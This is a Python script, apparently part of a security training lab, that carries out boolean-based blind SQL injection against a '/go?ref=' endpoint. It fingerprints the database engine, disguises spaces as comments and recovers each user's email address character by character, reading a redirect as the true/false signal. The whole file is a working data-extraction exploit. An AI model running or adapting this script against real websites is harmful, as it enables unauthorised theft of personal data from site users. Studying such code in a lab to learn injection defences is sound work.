"""Halving by lists: is the letter one of these? Six requests a letter, the last position first, comments for blanks.

Which DBMS it is comes first, and the whole value is asked once more at the end, since a letter that was only ever not
in a list might be in none at all. The page is `/go`: a row found redirects. MariaDB ignores case, hence BINARY there.
"""

import string

from drills.laboratory.scripts.client import Client
from drills.laboratory.truth import Cell

_LETTERS = string.ascii_lowercase + string.digits + "@.-_+"
_MAXIMUM_LENGTH = 60
_PAGE = "/go?ref="
_REDIRECT = 302
_FINGERPRINT = {
    "sqlite": "sqlite_version()/**/LIKE/**/'3%'",
    "postgresql": "version()/**/LIKE/**/'PostgreSQL%'",
    "mariadb": "@@version/**/LIKE/**/'%MariaDB%'",
}


def take(site: str, dbms: str, source_address: str, *, persons: tuple[int, ...]) -> list[Cell]:
    """The mail addresses of `persons` (ids)."""
    client = Client(site, source_address)
    binary = "BINARY/**/" if dbms == "mariadb" else ""

    def holds(condition: str) -> bool:
        return client.get(_PAGE, f"tea-01'/**/AND/**/{condition}-- ").status == _REDIRECT

    if not holds(_FINGERPRINT[dbms]):
        raise ValueError(f"this is not {dbms}")
    cells = []
    for person in persons:
        secret = f"(SELECT/**/mail/**/FROM/**/person/**/WHERE/**/id={person})"
        length = next(n for n in range(_MAXIMUM_LENGTH) if not holds(f"LENGTH({secret})>{n}"))
        value = ""
        for position in range(length, 0, -1):
            left = _LETTERS
            while len(left) > 1:
                half = left[: len(left) // 2]
                listed = ",".join(f"'{letter}'" for letter in half)
                inside = holds(f"{binary}SUBSTRING({secret},{position},1)/**/IN/**/({listed})")
                left = half if inside else left[len(half) :]
            value = left + value
        if not holds(f"{binary}{secret}='{value}'"):
            raise ValueError(f"the letters of person {person} do not make the value")
        cells.append(Cell("person", "mail", None, value))
    return cells
